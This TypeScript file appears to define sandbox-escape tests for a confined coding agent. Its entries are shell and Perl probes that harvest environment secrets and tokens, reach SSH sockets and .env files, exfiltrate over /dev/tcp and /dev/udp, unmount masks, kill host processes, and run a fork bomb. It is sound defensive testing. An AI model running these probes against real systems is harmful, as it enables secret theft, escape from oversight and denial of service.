import { answered, attack, toothless, type Attack } from "./attack.ts";
import { MORE_ATTACKS } from "./sandbox-attacks-more.ts";

const NO_ATTACK = "no attack: what has to work inside";
const ROOTS_OWN = "an ordinary user may not do it outside either; inside he would be the owner of it";

export const ATTACKS: readonly Attack[] = [
  ...MORE_ATTACKS,
  attack(
    "environment of the host, its own and that of every process",
    'for f in /proc/[0-9]*/environ /proc/self/environ /proc/1/environ /proc/$HOST_PID/environ /proc/$HARNESS_PID/environ; do leaks "$f"; done',
  ),
  attack(
    "environment-secrets: names beside the list",
    'env | grep -E "SSH_AUTH_SOCK|CTO_|GIT_|TOKEN|KEY|NODE_" && escaped names',
  ),
  attack(
    "home of the operator",
    '[ -e "$HOST_HOME" ] && escaped home; ls /root /home/*/.ssh 2>/dev/null | grep . && escaped listed; [ "$(ls /home)" = agent ] && echo only-agent',
    "only-agent",
  ),
  attack(
    "SSH agent's socket",
    '[ -n "${SSH_AUTH_SOCK:-}" ] && escaped variable; [ -e "$HOST/agent.sock" ] && escaped socket; ls /run /tmp/ssh-* 2>/dev/null | grep . && escaped run',
  ),
  attack(
    ".env of the target",
    'leaks "$HOST/target/.env" "/proc/1/root$HOST/target/.env" "/proc/self/cwd/../../../$HOST/target/.env"; [ -e "$HOST" ] && escaped folder',
  ),
  attack("folder of another run", 'for d in other-run workspaces state; do leaks -r "$HOST/$d"; done'),
  attack(
    "read-denied: masked files and folders",
    'leaks -r .env docs/.ENV secrets .claude .mcp.json; cat .env .mcp.json docs/.ENV secrets/k; [ -d .claude ] && [ -z "$(ls -A .claude)" ] && echo config-is-empty',
    "config-is-empty",
  ),
  attack(
    "chmod-hidden",
    "chmod -R 777 .env secrets .mcp.json .claude; leaks -r .env secrets .mcp.json; errno_of chmod 600 .env",
    "Read-only file system",
  ),
  attack(
    "umount-mask",
    'for p in .env secrets /proc/sys /workspace; do umount "$p"; umount -l "$p"; done 2>/dev/null; echo umount=$(by_number 166 /workspace/.env 2); leaks -r .env secrets',
    "umount=1",
  ),
  attack(
    "nested-userns-umount",
    'unshare -Ur true && escaped userns; unshare -Urm sh -c "umount -l .env; cat .env" && escaped mount; echo setns=$(by_number 308 0 0); echo clone3=$(by_number 435 0 0)',
    "setns=1",
    "clone3=38",
  ),
  attack("nested-bwrap-rebind", "bwrap --bind / / true && escaped bwrap"),
  toothless(
    "mounting needs a capability that an ordinary user has only in a namespace of his own: see nested-userns-umount",
    attack(
      "mounting by number",
      "echo mount=$(by_number 165 none /tmp tmpfs 0 0) pivot=$(by_number 155 / /) chroot=$(by_number 161 /tmp) fsopen=$(by_number 430 tmpfs 0)",
      "mount=1 pivot=1 chroot=1 fsopen=1",
    ),
  ),
  toothless(
    ROOTS_OWN,
    attack(
      "mknod-device",
      "for at in docs /tmp /dev/shm; do mknod $at/b b 254 0 && escaped block; mknod $at/c c 1 1 && escaped character; done; mkfifo /tmp/fifo && echo fifo",
      "fifo",
    ),
  ),
  attack(
    "kill-host-process",
    "for pid in $HOST_PID $HARNESS_PID; do kill -9 $pid && escaped kill; [ -e /proc/$pid/status ] && [ $pid -gt 100 ] && escaped visible; done; [ $(ls -d /proc/[0-9]* | wc -l) -lt 12 ] && echo few",
    "few",
  ),
  answered(
    attack(
      "kernel doors",
      "echo ptrace=$(by_number 101 16 1 0 0) keyctl=$(by_number 250 0 0 0) bpf=$(by_number 321 0 0 0) uring=$(by_number 425 1 0)",
      "ptrace=1 keyctl=1 bpf=1 uring=38",
    ),
  ),
  answered(
    attack(
      "privileges",
      'grep -E "^(CapEff|CapPrm|CapBnd|NoNewPrivs|Seccomp):" /proc/self/status | tr -s "\\t" "=" | sort',
      "CapBnd:=0000000000000000",
      "CapEff:=0000000000000000",
      "NoNewPrivs:=1",
      "Seccomp:=2",
    ),
  ),
  answered(
    attack("descriptors", 'for fd in /proc/$$/fd/*; do [ -L "$fd" ] && printf "%s " "${fd##*/}"; done; echo', "0 1 2 "),
  ),
  answered(
    attack(
      "prlimit cannot be raised",
      'ulimit -u unlimited && escaped processes; ulimit -n 1000000 && escaped files; ulimit -f unlimited && escaped size; echo "core $(ulimit -c) locked $(ulimit -l)"',
      "core 0 locked 64",
    ),
  ),
  attack(
    "tcp-loopback-host",
    'for to in 127.0.0.1 ${ATTACK_FAR:-192.0.2.1}; do (exec 9<>/dev/tcp/$to/$HOST_PORT) && escaped $to; done; [ "$(ls /sys/class/net 2>/dev/null)" = "" ] && [ "$(tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d " ")" = lo ] && echo only-lo',
    "only-lo",
  ),
  toothless(
    "it would tell a name and a datagram to whoever the machine asks",
    attack(
      "dns-exfiltration",
      "getent ahosts example.com && escaped name; (echo x >/dev/udp/192.0.2.1/53) && escaped datagram; [ -e /etc/resolv.conf ] && escaped resolver; getent hosts localhost >/dev/null && echo localhost",
      "localhost",
    ),
  ),
  attack(
    "host-unix-socket by path and in the abstract namespace",
    `perl -MSocket -e 'for my $to ("$ENV{HOST}/agent.sock", "\\0$ENV{HOST_ABSTRACT}") { socket(my $s, PF_UNIX, SOCK_STREAM, 0) or die; print "ESCAPED socket\\n" if connect($s, pack_sockaddr_un($to)); }'`,
  ),
  answered(
    attack(
      "sockets of other families",
      "for family in 17 38 40; do echo $family=$(by_number 41 $family 1 0); done",
      "17=97",
      "38=97",
      "40=97",
    ),
  ),
  toothless(
    "it needs a terminal, and a control has none to lose",
    attack(
      "tiocsti",
      `perl -e 'my $c = "x"; ioctl(STDIN, 0x5412, $c); print "sti=", $!+0, "\\n"; print "ESCAPED terminal\\n" if open(my $t, "+<", "/dev/tty")'`,
      "sti=1",
    ),
  ),
  answered(
    attack(
      "write-pinned: a sibling of an allowed file",
      'errno_of bash -c "echo x >>src/__init__.py"; errno_of chmod 777 README.md; rm -f strings.py; [ -e strings.py ] && echo there',
      "Read-only file system",
      "there",
    ),
  ),
  answered(
    attack(
      "rename-over-sibling",
      "echo x >src/new; errno_of mv -f src/new src/__init__.py; errno_of mv src/__init__.py src/moved",
      "Device or resource busy",
    ),
  ),
  attack(
    "swap-parent-dir",
    "mv src gone && escaped moved; mv deploy gone && escaped moved; rm -rf src; [ -e src/__init__.py ] && echo there",
    "there",
  ),
  attack(
    "hardlink-forbidden",
    "ln README.md docs/h && echo x >>docs/h && escaped linked; ln src/__init__.py src/h && echo x >>src/h && escaped linked",
  ),
  attack(
    "a prohibition inside a folder that is writable whole",
    "echo x >>docs/deploy/notes.md && escaped wrote; echo x >docs/deploy/new && escaped made; mv docs/deploy docs/gone && escaped moved",
  ),
  attack(
    "symlink-out-write",
    'rm -f src/strings.py; ln -s "$HOST/target/README" src/strings.py; echo x >src/strings.py && escaped wrote; ls "$HOST" && escaped listed',
  ),
  toothless(
    NO_ATTACK,
    attack(
      "allowed file edited by sed -i",
      "sed -i s/canary/edited/ src/strings.py && grep edited src/strings.py",
      "cto-edited-file",
    ),
  ),
  toothless(
    NO_ATTACK,
    attack(
      "allowed file replaced by temporary name and rename",
      "echo new >src/.tmp1 && mv -f src/.tmp1 src/strings.py && cat src/strings.py; echo t >.tmp2 && mv .tmp2 test_strings.py && cat test_strings.py",
      "new",
      "t",
    ),
  ),
  toothless(
    NO_ATTACK,
    attack("allowed folder", "echo n >docs/new.md && rm docs/index.md && mkdir docs/d && echo made", "made"),
  ),
  toothless(
    "nothing is laid in where there is no sandbox",
    attack(
      "files that are laid in are read-only",
      "cat /opt/cto/note; echo; echo x >>/opt/cto/note && escaped wrote; rm -f /opt/cto/note; [ -e /opt/cto/note ] && echo there",
      "laid in",
      "there",
    ),
  ),
  toothless(
    ROOTS_OWN,
    attack(
      "root, /dev, /etc, /usr and sysctls are read-only",
      "for f in /x /dev/x /etc/ld.so.preload /usr/x /opt/cto/x /home/x /proc/sys/kernel/hostname /proc/sysrq-trigger; do echo x >>$f && escaped $f; done",
    ),
  ),
  answered(
    attack(
      "disk-fill-tmp",
      "for d in ${ATTACK_FILL:-/tmp $HOME /dev/shm}; do dd if=/dev/zero of=$d/fill bs=1M count=${ATTACK_FILL_MB:-200} 2>/dev/null; stat -c %s $d/fill || echo 0; done | { read a; read b; read c; [ $a -le 4194304 ] && [ $b -le 4194304 ] && [ ${c:-0} -le 67108864 ] && echo bounded; }",
      "bounded",
    ),
  ),
  attack(
    "fork-bomb",
    `perl -e 'for (1..($ENV{ATTACK_FORKS} || 400)) { my $p = fork; last unless defined $p; if (!$p) { sleep 20; exit } push @p, $p } print @p < 60 ? "bounded\\n" : "ESCAPED processes\\n"; kill 9, @p'`,
    "bounded",
  ),
  attack(
    "memory beyond the limit of one process",
    "[ $(by_number 9 0 5368709120 3 16418 -1 0) = 12 ] || escaped memory",
  ),
  toothless(
    NO_ATTACK,
    attack(
      "identity and host name",
      'echo "$(id -u) $(id -un) $(cat /proc/sys/kernel/hostname) $(pwd)"',
      "1000 agent sandbox /workspace",
    ),
  ),
];
